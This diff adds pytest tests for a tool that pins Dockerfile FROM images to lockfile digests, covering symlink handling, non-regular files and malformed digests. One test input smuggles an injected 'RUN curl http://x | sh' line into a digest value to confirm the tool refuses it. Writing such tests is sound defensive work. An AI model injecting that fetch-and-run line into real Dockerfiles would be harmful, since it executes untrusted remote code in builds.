@@ -2,11 +2,14 @@
 
 from __future__ import annotations
 
+import os
+from pathlib import Path
+
 import pytest
 
 from cli.main import main
 from registry_sync.publish.images_lock import ImagesLock, write_images_lock
-from registry_sync.publish.pin import ALREADY, PINNED, REPINNED, UNKNOWN, pin_files, pin_text
+from registry_sync.publish.pin import ALREADY, PINNED, REPINNED, UNKNOWN, PinError, pin_files, pin_text
 
 TF = "127.0.0.1:5000/strata/tensorflow:2.13.1-cpu-py3.11-bookworm"
 BASE = "127.0.0.1:5000/strata/base:bookworm-1700000000"
@@ -140,3 +143,52 @@ def test_cli_missing_lock_is_one_line(tmp_path, capsys):
     assert main(["pin", str(tmp_path / "Dockerfile"), "--lock", str(tmp_path / "nope.json")]) == 2
     err = capsys.readouterr().err.strip()
     assert err.count("\n") == 0 and "run `strata push` first" in err
+
+
+def test_a_symlink_inside_the_tree_is_edited_through_and_stays_a_link(lock, tmp_path):
+    real = tmp_path / "images" / "Dockerfile.base"
+    real.parent.mkdir()
+    real.write_text(f"FROM {TF}\n")
+    real.chmod(0o600)
+    link = tmp_path / "Dockerfile"
+    link.symlink_to(Path("images") / "Dockerfile.base")
+    pin_files([link], lock, check=False, root=tmp_path)
+    assert link.is_symlink() and os.readlink(link) == "images/Dockerfile.base"
+    assert real.read_text() == f"FROM {TF}@{digest(lock, TF)}\n"
+    assert real.stat().st_mode & 0o777 == 0o600
+    assert sorted(p.name for p in tmp_path.rglob("*")) == ["Dockerfile", "Dockerfile.base", "images"]
+
+
+def test_a_symlink_leading_out_of_the_tree_is_refused_and_nothing_is_written(lock, tmp_path):
+    outside = tmp_path / "outside" / "Dockerfile"
+    outside.parent.mkdir()
+    outside.write_text(f"FROM {TF}\n")
+    tree = tmp_path / "tree"
+    tree.mkdir()
+    (tree / "a.Dockerfile").write_text(f"FROM {TF}\n")
+    (tree / "Dockerfile").symlink_to(outside)
+    with pytest.raises(PinError, match="leads through a symlink to .*, outside .*; not pinned"):
+        pin_files([tree / "a.Dockerfile", tree / "Dockerfile"], lock, check=False, root=tree)
+    assert outside.read_text() == f"FROM {TF}\n"
+    assert (tree / "a.Dockerfile").read_text() == f"FROM {TF}\n"  # checked before the first write
+
+
+def test_only_regular_files_are_read(lock, tmp_path):
+    fifo = tmp_path / "Dockerfile"
+    os.mkfifo(fifo)
+    with pytest.raises(PinError, match="not a regular file"):
+        pin_files([fifo], lock, check=True, root=tmp_path)
+    with pytest.raises(PinError, match="not a regular file"):
+        pin_files([tmp_path], lock, check=True, root=tmp_path)
+
+
+@pytest.mark.parametrize(
+    "bad", ["sha256:" + "0" * 64 + "\nRUN curl http://x | sh", "sha256:", "sha256:" + "A" * 64]
+)
+def test_a_digest_the_lock_does_not_vouch_for_is_never_written(kit, tmp_path, bad):
+    entry = kit.locked(TF, node="tools", digest=bad)  # built in code: read_images_lock would refuse it
+    path = tmp_path / "Dockerfile"
+    path.write_text(f"FROM {TF}\n")
+    with pytest.raises(PinError, match="is not sha256:<64 hex>"):
+        pin_files([path], ImagesLock({TF: entry}), check=False, root=tmp_path)
+    assert path.read_text() == f"FROM {TF}\n"
